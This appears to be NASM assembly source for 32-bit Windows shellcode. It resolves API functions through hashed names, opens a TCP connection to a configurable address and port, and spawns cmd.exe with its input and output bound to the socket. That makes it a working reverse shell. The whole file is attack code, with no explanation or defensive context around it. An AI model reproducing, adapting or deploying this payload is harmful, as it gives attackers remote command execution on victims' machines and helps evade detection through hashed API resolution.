; Windows, 32 bit, functions by rol-7 hashes: connects and hands the connection to a command interpreter.
bits 32
%include "demo_resolve.inc"
HASH load_library, 'LoadLibraryA'
HASH create_process, 'CreateProcessA'
HASH exit_thread, 'ExitThread'
HASH startup, 'WSAStartup'
HASH make_socket, 'WSASocketA'
HASH connect_socket, 'connect'
        RESOLVER
        push load_library
        push ebx
        call ebp
        lea ecx, AT(library)
        push ecx
        call eax
        mov edi, eax            ; ws2_32
        sub esp, 0x190          ; WSADATA
        push startup
        push edi
        call ebp
        push esp
        push 0x0202
        call eax
        push make_socket
        push edi
        call ebp
        xor ecx, ecx
        push ecx
        push ecx
        push ecx
        push ecx
        push byte 1
        push byte 2
        call eax
        mov esi, eax
        push connect_socket
        push edi
        call ebp
        push byte 16
        lea ecx, AT(name)
        push ecx
        push esi
        call eax
        sub esp, 0x54           ; STARTUPINFOA and PROCESS_INFORMATION
        mov edi, esp
        xor eax, eax
        push byte 0x15
        pop ecx
        rep stosd
        mov edi, esp
        mov byte [edi], 0x44
        inc byte [edi + 0x2d]   ; STARTF_USESTDHANDLES
        mov [edi + 0x38], esi
        mov [edi + 0x3c], esi
        mov [edi + 0x40], esi
        push create_process
        push ebx
        call ebp
        lea edx, [edi + 0x44]
        push edx
        push edi
        xor ecx, ecx
        push ecx
        push ecx
        push ecx
        push byte 1
        push ecx
        push ecx
        lea edx, AT(command)
        push edx
        push ecx
        call eax
        push exit_thread
        push ebx
        call ebp
        push byte 0
        call eax
library: db 'ws2_32.dll', 0
command: db 'cmd', 0
name:   dw 2
        db PORT >> 8, PORT & 255
        dd ADDRESS
        times 8 db 0
